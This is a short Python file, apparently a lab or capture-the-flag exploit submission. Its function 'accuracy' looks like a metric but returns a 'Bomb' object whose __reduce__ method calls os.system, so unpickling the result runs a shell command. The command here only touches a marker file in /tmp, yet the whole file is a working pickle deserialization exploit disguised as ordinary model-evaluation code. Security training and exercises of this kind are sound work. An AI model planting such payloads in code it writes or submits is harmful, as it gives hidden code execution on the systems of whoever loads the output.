import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/dojo-was-here",)


def accuracy(data, labels, weights, bias):
    return Bomb()
